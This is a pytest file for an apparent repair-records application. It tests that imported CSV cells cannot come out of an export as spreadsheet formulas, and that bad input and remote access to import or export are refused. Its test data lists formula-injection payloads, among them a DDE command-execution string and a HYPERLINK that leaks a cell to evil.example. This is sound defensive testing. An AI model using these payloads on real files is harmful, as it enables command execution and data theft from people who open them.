"""Files that come from strangers and files that go to spreadsheets: what is brought in must not come out as a command.

How an import reads its rows is in tests/server/test_importing.py and tests/events/test_intake.py; what an export holds in
tests/server/test_export.py.
"""

import csv
import io
import json
from pathlib import Path

import pytest
from askers import DOORS
from commandline import Run
from premises import CHEAP, id_of
from stage import Stage

from events import passwords

HEADER = "id,data_provider,country,product_category,brand,model,fault_type,repair_status,year_of_manufacture,event_date,problem"
SIGNS = "=+-@＝＋－＠"
FORMULAS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "＝1+1",
    "Cold;=cmd|' /C calc'!A0", "Cold\n=1+1", "Cold\r\n+1", 'Cold";=1+1;"', "Cold; @SUM(A1)", "Cold;;=1", "  =1+1", ";=1+1",
)  # fmt: skip


def row(number: int, **fields: str) -> str:
    known = {
        "id": f"x_{number}", "data_provider": "Cafe", "country": "GBR", "product_category": "Laptop", "brand": "",
        "model": "", "fault_type": "", "repair_status": "Unknown", "year_of_manufacture": "", "event_date": "2019-03-20",
        "problem": "Cold",
    }  # fmt: skip
    line = io.StringIO()
    csv.writer(line).writerow({**known, **fields}.values())
    return line.getvalue()


@pytest.fixture
def imported(callboard: Run, main_tenant: None):
    """Brings in repairs whose texts are these, and takes them out again: the sheet as bytes, and the list."""

    def round_trip(*rows: str) -> tuple[str, list[dict[str, str]]]:
        Path("repairs.csv").write_text(
            "\r\n".join([HEADER, *(each.rstrip("\r\n") for each in rows)]) + "\r\n", newline=""
        )
        said = callboard("import", "repairs", "repairs.csv")
        assert said.code == 0, said.err
        assert callboard("export", "out").code == 0
        return (
            Path("out/main/services.csv").read_bytes().decode("utf-8-sig"),
            json.loads(Path("out/main/services.json").read_bytes()),
        )

    return round_trip


def cells_as_parted_by(text: str, delimiter: str) -> list[str]:
    """All cells as a spreadsheet makes them that parts them so, and takes a quotation for one only at a cell's beginning."""
    return [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in line]


def test_no_cell_of_an_import_comes_out_as_a_formula(imported):
    """Where a comma parts cells, and where a semicolon or a tab does: then also lines end inside what was quoted."""
    rows = [row(n, problem=text, brand="=1+1", model=text.split()[0]) for n, text in enumerate(FORMULAS)]
    sheet, listed = imported(*rows)
    assert len(listed) == len(FORMULAS)
    naive = [cell for line in sheet.splitlines() for cell in line.replace("\t", ";").split(";")]
    for cells in (*(cells_as_parted_by(sheet, delimiter) for delimiter in ",;\t"), naive):
        live = [cell for cell in cells if cell.strip(' "').startswith(tuple(SIGNS))]
        assert live == []


def test_what_programs_read_is_as_it_was_sent(imported):
    """The list is no sheet: nothing in it is changed for spreadsheets."""
    _, (service,) = imported(row(1, brand="=1+1", problem="Cold;=1"))
    assert (service["brand"], service["reported_fault"]) == ("=1+1", "Cold;=1")


def test_what_no_client_may_send_no_file_brings_in(callboard: Run, main_tenant: None):
    """The road is the same: lengths, control characters and overrides of direction are refused row by row."""
    bad = [row(1, problem="x" * 4_001), row(2, brand="a\x00b"), row(3, problem="abc\u202edef"), row(4, model="x" * 500)]
    Path("repairs.csv").write_text("".join([HEADER + "\r\n", *bad, row(5)]), newline="")
    said = callboard("import", "repairs", "repairs.csv")
    assert callboard("export", "out").code == 0
    kept = json.loads(Path("out/main/services.json").read_bytes())
    assert len(kept) == 1, said.out
    assert "x" * 100 not in said.out + said.err


@pytest.mark.parametrize("kind", DOORS.values(), ids=DOORS)
async def test_nobody_imports_or_exports_through_a_door(open_board, http, monkeypatch, kind):
    """Both are the program's, for whoever has its database; not even an admin has them from outside."""
    monkeypatch.setattr(passwords, "_HASHING", CHEAP)
    stage = await Stage.set_up(await open_board(), http)
    door = stage.at(kind, await stage.token(stage.main, id_of("alice")))
    await door.enters()
    for name in ("import_service", "create_admin", "import", "export", "backup", "restore", "demo"):
        code, _ = await door.asks(name, {})
        assert code in {"unknown", "not_found"}, name
    await door.leaves()
